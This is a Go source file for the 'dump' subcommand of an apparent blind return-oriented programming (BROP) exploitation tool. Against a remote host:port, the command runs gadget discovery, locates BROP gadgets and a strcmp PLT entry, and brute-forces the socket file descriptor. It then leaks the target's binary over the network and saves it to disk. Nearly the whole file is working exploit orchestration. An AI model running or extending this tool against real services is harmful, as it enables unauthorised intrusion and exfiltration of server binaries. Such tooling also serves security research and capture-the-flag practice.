package app

import (
	"fmt"
	"os"

	"github.com/spf13/cobra"

	"github.com/voidspace-sec/brop/internal/config"
	"github.com/voidspace-sec/brop/internal/logger"
	"github.com/voidspace-sec/brop/internal/session"
	"github.com/voidspace-sec/brop/internal/transport"
)

// NewDumpCommand creates the "dump" subcommand.
func NewDumpCommand() *cobra.Command {
	var (
		target  string
		out     string
		length  int
		sockMin uint64
		sockMax uint64
	)

	cmd := &cobra.Command{
		Use:   "dump",
		Short: "Run discovery, then leak the target binary over the recovered socket.",
		Long: `Dump runs every discovery stage against the target, brute-forces the
client's own socket file descriptor by looking for an ELF-header leak,
and writes the recovered bytes to --out.

Configuration:
  Default values are loaded from configs/config.yaml.
  Command line flags override the config file values.`,
		RunE: func(cmd *cobra.Command, args []string) error {
			cfg, err := config.LoadConfig()
			if err != nil {
				return fmt.Errorf("failed to load config: %w", err)
			}

			if !cmd.Flags().Changed("target") {
				target = cfg.Target
			}
			if target == "" {
				target = "localhost:7777"
			}
			if !cmd.Flags().Changed("out") {
				out = cfg.Dump.OutputPath
			}
			if !cmd.Flags().Changed("length") {
				length = cfg.Dump.Length
			}
			if !cmd.Flags().Changed("sock-min") {
				sockMin = cfg.Dump.SocketRangeStart
			}
			if !cmd.Flags().Changed("sock-max") {
				sockMax = cfg.Dump.SocketRangeEnd
			}

			return runDump(cfg, target, out, length, sockMin, sockMax)
		},
	}

	cmd.Flags().StringVar(&target, "target", "", "Target address (host:port), defaults to config/localhost:7777")
	cmd.Flags().StringVar(&out, "out", "", "Output file path for leaked bytes")
	cmd.Flags().IntVar(&length, "length", 0, "Number of bytes to leak")
	cmd.Flags().Uint64Var(&sockMin, "sock-min", 0, "Lowest socket fd to try")
	cmd.Flags().Uint64Var(&sockMax, "sock-max", 0, "Highest socket fd to try")

	return cmd
}

func runDump(cfg *config.Config, target, out string, length int, sockMin, sockMax uint64) error {
	logger.Init(cfg.LogLevel)
	logger.Info("Target: %s", target)

	tr := transport.NewTCPTransport(target)
	s := session.New(tr)

	if _, found := s.GetGadgets(); !found {
		return fmt.Errorf("gadget scan came back empty, cannot attempt a leak")
	}
	if _, found := s.GetBROPGadgets(); !found {
		return fmt.Errorf("no BROP gadget found, cannot attempt a leak")
	}
	if _, found := s.GetStrcmpItems(); !found {
		return fmt.Errorf("no strcmp-like PLT entry found, cannot attempt a leak")
	}

	var candidates []uint64
	for fd := sockMin; fd <= sockMax; fd++ {
		if fd == 0 || fd == 1 || fd == 2 {
			continue
		}
		candidates = append(candidates, fd)
	}

	logger.Info("brute-forcing socket fd over [%d, %d]", sockMin, sockMax)
	sock, data, err := s.FindWriteSocket(candidates, length)
	if err != nil {
		return fmt.Errorf("leak failed: %w", err)
	}
	logger.Info("recovered %d bytes over socket fd %d", len(data), sock)

	if err := os.WriteFile(out, data, 0644); err != nil {
		return fmt.Errorf("failed to write %s: %w", out, err)
	}
	fmt.Printf("wrote %d bytes to %s (socket fd %d)\n", len(data), out, sock)
	return nil
}
